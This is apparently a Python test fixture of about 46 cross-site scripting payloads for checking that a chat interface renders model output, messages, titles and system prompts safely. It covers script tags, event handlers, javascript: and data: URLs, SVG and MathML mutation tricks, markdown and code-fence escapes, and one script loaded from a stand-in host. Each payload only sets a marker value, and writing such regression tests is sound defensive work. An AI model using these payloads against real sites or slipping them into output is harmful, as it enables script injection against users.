"""Hostile inputs for the rendering tests. Each payload, if it ever ran, sets `window.__xss` (or
`parent.__xss`) to its number or opens a dialog with it: the browser tests check neither happened.

They are sent as model output, user messages, conversation titles and system prompts.
"""

PAYLOADS: list[tuple[str, str]] = [
    # script tags
    ("script", "<script>window.__xss=1</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-nested", "<<script>window.__xss=3//<</script>"),
    ("script-json-breakout", "</script><script>window.__xss=4</script>"),
    ("attribute-breakout", '"><script>window.__xss=5</script>'),
    ("textarea-breakout", "</textarea><script>window.__xss=6</script>"),
    ("title-breakout", "</title><script>window.__xss=7</script>"),
    # event handlers
    ("img-onerror", '<img src=x onerror="window.__xss=8">'),
    ("body-onload", '<body onload="window.__xss=9">'),
    ("details-ontoggle", '<details open ontoggle="window.__xss=10">x</details>'),
    ("input-autofocus", '<input autofocus onfocus="window.__xss=11">'),
    ("custom-tag-onclick", "<x onclick=window.__xss=12>clickable custom tag</x>"),
    ("https-link-onclick", '<a href="https://example.com" onclick="window.__xss=13">a web link with a handler</a>'),
    ("div-onmouseover", '<div onmouseover="window.__xss=14" style="position:fixed;inset:0">a cover</div>'),
    # javascript: and data: URLs
    ("a-javascript", '<a href="javascript:window.__xss=15">raw js link</a>'),
    ("a-javascript-case", '<a href="JaVaScRiPt:window.__xss=16">mixed case</a>'),
    ("a-javascript-entity", '<a href="&#106;avascript:window.__xss=17">entity</a>'),
    ("a-javascript-space", '<a href=" javascript:window.__xss=18">leading space</a>'),
    ("a-data", '<a href="data:text/html,<script>alert(19)</script>">data link</a>'),
    ("iframe-javascript", '<iframe src="javascript:window.__xss=20"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss=21</script>"></iframe>'),
    ("object-data", '<object data="javascript:window.__xss=22"></object>'),
    ("embed-data", '<embed src="data:text/html,<script>parent.__xss=23</script>">'),
    ("form-action", '<form action="javascript:window.__xss=24"><button>go</button></form>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=25">'),
    ("base-href", '<base href="javascript:window.__xss=26//">'),
    # SVG and MathML
    ("svg-onload", '<svg onload="window.__xss=27"></svg>'),
    ("svg-script", "<svg><script>window.__xss=28</script></svg>"),
    ("svg-link", '<svg><a xlink:href="javascript:window.__xss=29"><text y="20">svg link</text></a></svg>'),
    ("math-mxss", '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=30">'),
    # malformed HTML and mutation XSS
    ("unclosed-img", "<img src=x onerror=window.__xss=31 "),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=window.__xss=32>">'),
    ("style-import", "<style>@import 'javascript:window.__xss=33';</style>"),
    ("style-attribute", '<div style="background:url(javascript:window.__xss=34)">styled</div>'),
    ("comment-breakout", "<!--><img src=x onerror=window.__xss=35>-->"),
    # markdown link and image tricks
    ("md-link-javascript", "[markdown js link](javascript:window.__xss=36)"),
    ("md-link-data", "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=)"),
    ("md-image-onerror", '![md image](x" onerror="window.__xss=38)'),
    ("md-image-javascript", "![md js image](javascript:window.__xss=39)"),
    ("md-reference-link", "[reference link][r40]\n\n[r40]: javascript:window.__xss=40"),
    ("md-autolink", '<https://example.com" onmouseover="window.__xss=41>'),
    ("md-link-title", '[titled](https://example.com "x\\" onmouseover=\\"window.__xss=42")'),
    # code-fence escapes
    ("fence-close-tag", "```\n</code></pre><img src=x onerror=window.__xss=43>\n```"),
    ("fence-info-string", '```html" onmouseover="window.__xss=44\n<b>x</b>\n```'),
    ("inline-code", "`<img src=x onerror=window.__xss=45>`"),
    ("template-injection", "{{constructor.constructor('window.__xss=46')()}} ${alert(46)}"),
]

assert len(PAYLOADS) >= 30
assert len({name for name, _ in PAYLOADS}) == len(PAYLOADS)


def all_payloads() -> str:
    """Every payload, each as its own markdown block."""
    return "\n\n".join(text for _, text in PAYLOADS) + "\n"
